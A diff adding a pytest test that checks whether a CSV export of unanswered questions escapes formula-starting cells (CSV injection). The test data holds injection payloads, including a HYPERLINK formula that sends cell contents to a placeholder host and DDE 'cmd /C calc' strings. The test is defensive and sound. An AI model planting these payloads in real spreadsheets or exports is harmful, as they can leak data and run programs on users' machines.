@@ -250,3 +250,45 @@ def test_an_empty_csv_has_just_the_header(tmp_path: Path) -> None:
     path = tmp_path / "empty.csv"
     assert write_unanswered_csv([], path) == 0
     assert path.read_text(encoding="utf-8-sig").splitlines() == [",".join(CSV_COLUMNS)]
+
+
+# Question texts a spreadsheet would run as formulas (OWASP's CSV injection list: a cell
+# starting with =, +, -, @, a tab or a carriage return), and texts it shows as they are.
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+HARMLESS = ("Giá = bao nhiêu?", "'=đã có dấu nháy", "CSO là gì?")
+
+
+def _formula_rows(stream: io.StringIO | Path) -> list[dict[str, str]]:
+    groups = group_unanswered(_questions(*((text, "cso_role") for text in FORMULAS + HARMLESS)))
+    write_unanswered_csv(groups, stream)
+    if isinstance(stream, Path):
+        value = stream.read_text(encoding="utf-8-sig")
+    else:
+        value = stream.getvalue().removeprefix("\ufeff")
+    return list(csv.DictReader(io.StringIO(value, newline="")))
+
+
+@pytest.mark.parametrize("to", ["file", "stream"])
+def test_a_question_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    tmp_path: Path, to: str
+) -> None:
+    rows = _formula_rows(tmp_path / "unanswered.csv" if to == "file" else io.StringIO(newline=""))
+
+    asked = FORMULAS + HARMLESS
+    by_id = {int(row["ma_cau_hoi"]): row["cau_hoi"] for row in rows}
+    assert sorted(by_id) == list(range(1, len(asked) + 1))
+    for question_id, text in enumerate(asked, start=1):
+        cell = by_id[question_id]
+        if text in FORMULAS:
+            assert cell == "'" + text  # a leading quote: shown as text, the text unchanged
+        else:
+            assert cell == text
+    for row in rows:  # no other cell starts a formula either
+        assert not [value for value in row.values() if value[:1] in ("=", "+", "-", "@")]
